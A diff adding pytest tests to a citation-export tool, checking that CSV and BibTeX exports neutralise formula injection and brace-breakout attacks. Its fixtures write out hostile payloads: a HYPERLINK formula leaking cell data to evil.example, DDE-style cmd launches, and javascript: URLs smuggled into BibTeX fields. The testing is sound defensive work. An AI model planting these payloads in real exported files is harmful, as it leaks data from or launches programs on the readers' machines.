@@ -9,8 +9,10 @@ import subprocess
 from pathlib import Path
 
 import bibtexparser
+import pybtex.database
 import pytest
 import rispy
+import yaml
 from citeproc import (
     Citation,
     CitationItem,
@@ -36,9 +38,10 @@ from matrixpipe.export.downloads import (
 )
 from matrixpipe.export.markdown import MarkdownRenderer
 from matrixpipe.export.references import bibtex, ris
+from matrixpipe.export.tables import FORMULA_STARTS, csv_cell
 from matrixpipe.resolve import Collection
 
-from conftest import ROOT, RunCli
+from conftest import ENTRIES, ROOT, RunCli
 from tools import require
 
 SCHEMA_DIR = ROOT / "schema" / "api"
@@ -307,6 +310,214 @@ def test_downloads_per_study_per_cell_and_whole(bundled: Collection, tmp_path: P
     )
     assert len(cell_rows) == 18
     assert len(rispy.loads((tmp_path / cell_downloads(E5)["ris"]).read_text())) == 18
+
+
+# --- hostile text in the downloads ---------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full report")'
+BIB_BREAKOUT = 'x}}, url = "javascript:alert(1)", note = "{{'
+HOSTILE_STUDIES = {
+    "formula-title-2015": {
+        "title": HYPERLINK,
+        "source": {
+            "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "jurisdiction": "-2+3",
+            "year": 2015,
+            "type": "report",
+        },
+        "note": "+cmd|' /C notepad'!A0 opens a program in old spreadsheets.",
+    },
+    "brace-breakout-2016": {
+        "title": BIB_BREAKOUT,
+        "source": {
+            "authors": ["Evil}}, url = {javascript:alert(2)}, x = {", "Smith, Jane"],
+            "organisation": '}, url = "javascript:alert(3)", note = {',
+            "jurisdiction": "\\}{",
+            "year": 2016,
+            "type": "report",
+        },
+        "summary": 'Found}}, note = "javascript:alert(4)", x = {{ nothing.',
+        "note": "=1+1 and a tab\tinside.",
+    },
+    "ordinary-title-2017": {
+        "title": "Drink & drive: 50% of {cases} cost $5 - a mid-title dash",
+        "source": {
+            "authors": ["Müller, Jörg", "World Health Organization"],
+            "organisation": "Smith & Sons {Ltd}",
+            "jurisdiction": "England and Wales",
+            "year": 2017,
+            "type": "report",
+        },
+        "note": "An ordinary note - with a dash, 3 numbers and -1 in it.",
+    },
+}
+
+
+@pytest.fixture
+def hostile(collection: Path) -> Path:
+    """The bundled collection plus studies in cell E5 whose text attacks spreadsheets and
+    BibTeX readers, and one ordinary study that must come out unchanged."""
+    for study_id, spec in HOSTILE_STUDIES.items():
+        data = {
+            "id": study_id,
+            "title": spec["title"],
+            "status": "published",
+            "source": spec["source"],
+            **({"summary": spec["summary"]} if "summary" in spec else {}),
+            "placements": [{"cell": E5, "categories": ["review"], "rank": 9, "note": spec["note"]}],
+        }
+        path = collection / "entries" / "studies" / f"{study_id}.yaml"
+        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
+    assert not check(collection).report.failing()
+    return collection
+
+
+def _csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def _hostile_csvs(run_cli: RunCli, repo: Path, out: Path) -> dict[str, str]:
+    """Every CSV a reader can get: the downloads (per cell, whole) and `export --format csv`."""
+    downloads = out / "downloads"
+    assert run_cli(["export", "--format", "downloads", "--out", downloads, repo]).exit_code == 0
+    files = {
+        "cell download": (downloads / cell_downloads(E5)["csv"]).read_text(encoding="utf-8"),
+        "collection download": (downloads / collection_downloads()["csv"]).read_text(
+            encoding="utf-8"
+        ),
+    }
+    for name, args in {
+        "export": [],
+        "export --cell": ["--cell", E5],
+        "export --study": ["--study", "formula-title-2015"],
+    }.items():
+        result = run_cli(["export", "--format", "csv", *args, "--out", "-", repo])
+        assert result.exit_code == 0, result.output
+        files[name] = result.stdout
+    return files
+
+
+def test_csv_cells_cannot_start_a_formula(run_cli: RunCli, hostile: Path, tmp_path: Path) -> None:
+    for name, text in _hostile_csvs(run_cli, hostile, tmp_path).items():
+        rows = {row["study_id"]: row for row in _csv_rows(text)}
+        formula = rows["formula-title-2015"]
+        assert formula["title"] == "'" + HYPERLINK, name
+        assert formula["organisation"] == "'@SUM(1+1)*cmd|' /C calc'!A0", name
+        assert formula["jurisdiction"] == "'-2+3", name
+        assert formula["note"] == "'+cmd|' /C notepad'!A0 opens a program in old spreadsheets."
+        if name == "export --study":
+            assert list(rows) == ["formula-title-2015"]
+            continue
+        assert rows["brace-breakout-2016"]["note"] == "'=1+1 and a tab\tinside.", name
+        for row in rows.values():
+            for column, value in row.items():
+                assert not value.startswith(FORMULA_STARTS), (name, column, value)
+            assert row["year"].isdigit() and row["rank"] in ("", *map(str, range(1, 10000)))
+        ordinary = rows["ordinary-title-2017"]
+        spec = HOSTILE_STUDIES["ordinary-title-2017"]
+        assert ordinary["title"] == spec["title"] and ordinary["note"] == spec["note"], name
+        assert ordinary["organisation"] == "Smith & Sons {Ltd}" and ordinary["year"] == "2017"
+        assert ordinary["rank"] == "9", name
+        bundled = rows["children-problem-drinking-parents-2014"]
+        assert bundled["title"].startswith("Uncovering") and bundled["year"] == "2014", name
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_csv_cell_quotes_every_formula_start(start: str) -> None:
+    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
+    assert csv_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
+
+
+@pytest.mark.parametrize("value", ["2009", "-3", "+4", "-2.5", "", "Ministry of Justice", "a=b"])
+def test_csv_cell_keeps_numbers_and_plain_text(value: str) -> None:
+    assert csv_cell(value) == value
+
+
+def _pybtex_entries(text: str) -> dict[str, pybtex.database.Entry]:
+    """Parse as BibTeX does (braces counted, backslashes ignored); pybtex raises on an error."""
+    return dict(pybtex.database.parse_string(text, "bibtex").entries)
+
+
+def test_bibtex_values_cannot_close_their_field(
+    run_cli: RunCli, hostile: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "all.bib"
+    assert run_cli(["export", "--format", "bibtex", "--out", out, hostile]).exit_code == 0
+    downloads = tmp_path / "downloads"
+    assert run_cli(["export", "--format", "downloads", "--out", downloads, hostile]).exit_code == 0
+    texts = {
+        "export": out.read_text(encoding="utf-8"),
+        "collection download": (downloads / collection_downloads()["bib"]).read_text("utf-8"),
+        "cell download": (downloads / cell_downloads(E5)["bib"]).read_text("utf-8"),
+        "study download": (downloads / study_downloads("brace-breakout-2016")["bib"]).read_text(
+            "utf-8"
+        ),
+    }
+    for name, text in texts.items():
+        entries = _pybtex_entries(text)
+        breakout = entries["brace-breakout-2016"]
+        assert sorted(breakout.fields) == [
+            "abstract",
+            "institution",
+            "jurisdiction",
+            "title",
+            "year",
+        ], name
+        assert len(breakout.persons["author"]) == 2, name
+        assert str(breakout.persons["author"][1]) == "Smith, Jane"
+        assert breakout.fields["year"] == "2016"
+        if name == "study download":
+            assert list(entries) == ["brace-breakout-2016"]
+            continue
+        for key in ("formula-title-2015", "ordinary-title-2017"):
+            assert "url" not in entries[key].fields and "note" not in entries[key].fields
+        assert sorted(entries["ordinary-title-2017"].fields) == [
+            "institution",
+            "jurisdiction",
+            "title",
+            "year",
+        ]
+        ordinary = entries["ordinary-title-2017"]
+        assert ordinary.fields["title"] == (
+            r"{Drink \& drive: 50\% of \{cases\} cost \$5 - a mid-title dash}"
+        )
+        assert [str(p) for p in ordinary.persons["author"]] == [
+            "Müller, Jörg",
+            "{World Health Organization}",
+        ]
+        # bibtexparser, which `matrixpipe import` reads with, sees the same records.
+        library = bibtexparser.parse_string(text)
+        assert not library.failed_blocks, name
+        assert {e.key: sorted(f.key for f in e.fields) for e in library.entries} == {
+            key: sorted([*entry.fields, *entry.persons]) for key, entry in entries.items()
+        }
+
+
+def test_hostile_bibtex_reads_back_as_the_text_it_was(
+    run_cli: RunCli, hostile: Path, tmp_path: Path
+) -> None:
+    """Neutralised braces are still the reader's braces: the import gives the same text back."""
+    out = tmp_path / "e5.bib"
+    assert (
+        run_cli(["export", "--format", "bibtex", "--cell", E5, "--out", out, hostile]).exit_code
+        == 0
+    )
+    empty = tmp_path / "empty"
+    (empty / "entries" / "studies").mkdir(parents=True)
+    for path in (ENTRIES / "matrices").iterdir():
+        (empty / "entries" / "matrices").mkdir(exist_ok=True)
+        (empty / "entries" / "matrices" / path.name).write_bytes(path.read_bytes())
+    result = run_cli(["import", out, empty])
+    assert result.exit_code == 0, result.output
+    imported = {s.title: s for s in check(empty).collection.studies.values()}
+    before = check(hostile).collection.studies
+    for study_id in HOSTILE_STUDIES:
+        study = before[study_id]
+        again = imported[study.title]
+        assert again.source.organisation == study.source.organisation, study_id
+        assert again.source.jurisdiction == study.source.jurisdiction, study_id
+        assert again.source.url is None
+    assert imported[BIB_BREAKOUT].summary.strip() == before["brace-breakout-2016"].summary.strip()
 
 
 # --- citations -----------------------------------------------------------------------------
